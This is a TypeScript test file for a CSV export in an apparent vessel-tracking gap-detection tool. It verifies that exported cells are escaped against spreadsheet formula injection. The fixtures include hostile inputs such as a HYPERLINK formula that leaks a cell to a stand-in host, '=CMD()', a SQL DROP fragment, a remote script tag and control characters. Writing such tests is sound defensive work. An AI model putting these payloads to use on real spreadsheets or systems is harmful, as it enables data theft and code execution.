import { parseString } from 'fast-csv'
import fc from 'fast-check'
import { expect, test } from 'vitest'
import { safeText } from '../../src/model/text.js'
import { csvFormat, CSV_COLUMNS, formulaSafe } from '../../src/sinks/csv.js'
import { isVesselEvent, type DarkEvent } from '../../src/model/event.js'
import { anyEvent, gapEvent, HOSTILE, openGap, outage } from './events.js'

function write(events: DarkEvent[]): string {
  const format = csvFormat()
  return format.head + events.map(event => format.event(event)).join('') + format.tail
}

const read = (text: string) =>
  new Promise<Record<string, string>[]>((resolve, reject) => {
    const rows: Record<string, string>[] = []
    parseString(text, { headers: true, strictColumnHandling: true })
      .on('error', reject)
      .on('data-invalid', row => reject(new Error(`invalid row ${JSON.stringify(row)}`)))
      .on('data', (row: Record<string, string>) => rows.push(row))
      .on('end', () => resolve(rows))
  })

test('one row an event, under one header', async () => {
  const [closed, open] = await read(write([gapEvent(), openGap()]))
  expect(closed).toMatchObject({
    id: 'gap-416000301-1545738042000',
    type: 'gap',
    mmsi: '416000301',
    startTime: '2018-12-25T11:40:42.000Z',
    startLat: '-16.225',
    startLon: '-130.386',
    endTime: '2018-12-26T04:25:31.000Z',
    endLat: '-16.184225',
    endLon: '-131.478745',
    durationS: '60289',
    score: '0.8735',
    startZones: 'Taiwan (approximate)',
    reasons: 'silent for 16.7 h',
  })
  expect(JSON.parse(closed!.details!)).toMatchObject({ distanceM: 117032.123 })
  expect(open).toMatchObject({ endTime: '', endLat: '', endLon: '', durationS: '' })
})

test('an event without a vessel has its feed, receiver and area instead', async () => {
  const area = { lat: 54.123_456_7, lon: -4, radiusM: 60_000.4 }
  const [row] = await read(write([outage({ receiver: '=CMD()', area })]))
  expect(row).toMatchObject({ type: 'feed_outage', mmsi: '', track: '', name: '', txClass: '', startLat: '' })
  expect(row).toMatchObject({
    source: 'terrestrial',
    receiver: "'=CMD()",
    areaLat: '54.123457',
    areaLon: '-4',
  })
  expect(row).toMatchObject({
    areaRadiusM: '60000.4',
    durationS: '10800',
    startTime: '2024-01-15T00:00:00.000Z',
  })
})

test('who heard its ends has a column each, empty where nobody is named', async () => {
  const event = gapEvent()
  const start = { ...event.start, receivers: ['Ålesund', '=CMD()\u202e'] }
  const [row] = await read(write([{ ...event, start }]))
  expect(row).toMatchObject({ startReceivers: 'Ålesund; =CMD()', endReceivers: '' })
})

test('no events are a header', () => {
  expect(write([])).toBe(`${CSV_COLUMNS.join(',')}\n`)
})

test('several zones and reasons are joined by a semicolon', async () => {
  const event = gapEvent()
  const zone = { ...event.zones.start[0]!, name: 'China', method: 'authoritative' as const }
  event.zones.start.push(zone)
  event.evidence.push({ ...event.evidence[0]!, text: 'no port near' })
  const [row] = await read(write([event]))
  expect(row!.startZones).toBe('Taiwan (approximate); China')
  expect(row!.reasons).toBe('silent for 16.7 h; no port near')
  event.zones.start = [{ ...zone, name: 'Taiwan (approximate EEZ)', method: 'approximate' }]
  expect((await read(write([event])))[0]!.startZones).toBe('Taiwan (approximate EEZ)')
})

test('no text can be taken for a formula; numbers are left alone', () => {
  for (const text of ['=1', '+1', '-1', '@A', '\t1', '\r1', '＝1', '＋1', '－1', '＠A']) {
    expect(formulaSafe(text)).toBe(`'${text}`)
  }
  for (const cell of ['1=', ' x', '', -5, null]) expect(formulaSafe(cell)).toBe(cell)
})

test('any event comes back from a strict reader with its text, made safe', async () => {
  await fc.assert(
    fc.asyncProperty(fc.array(anyEvent, { maxLength: 5 }), async events => {
      const rows = await read(write(events))
      expect(rows.length).toBe(events.length)
      rows.forEach((row, i) => {
        const event = events[i]!
        const text = (cell: string | null) => formulaSafe(safeText(cell ?? '', 8000))
        if (isVesselEvent(event)) {
          expect(row).toMatchObject({ name: text(event.vessel.name), source: '', receiver: '', areaLat: '' })
          expect(row.mmsi).toBe(String(event.mmsi))
        } else {
          expect(row).toMatchObject({ source: text(event.source), receiver: text(event.receiver), mmsi: '' })
        }
        for (const cell of Object.values(row)) {
          expect(cell).not.toMatch(/^[=+@\t\r\n＝＋－＠]/)
          expect(cell).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u2028-\u202e]/)
        }
      })
    }),
    { numRuns: 200 },
  )
})

test('hostile names by name', async () => {
  const rows = await read(write(HOSTILE.map(name => gapEvent({ vessel: { ...gapEvent().vessel, name } }))))
  expect(rows.map(row => row.name)).toEqual([
    `'=HYPERLINK("http://x/?"&A1,"OK")`,
    "'+1",
    "'-1+1",
    "'@SUM(A1)",
    "'=1",
    "'=1",
    "'＝1+1",
    '"; DROP TABLE',
    'A,B;C',
    'LINEBREAKANDMORE',
    '[31mRED0m',
    'RAGE',
    '<SCRIPT SRC=//A.CO>',
    'half',
    "'already",
    '日本丸',
  ])
})
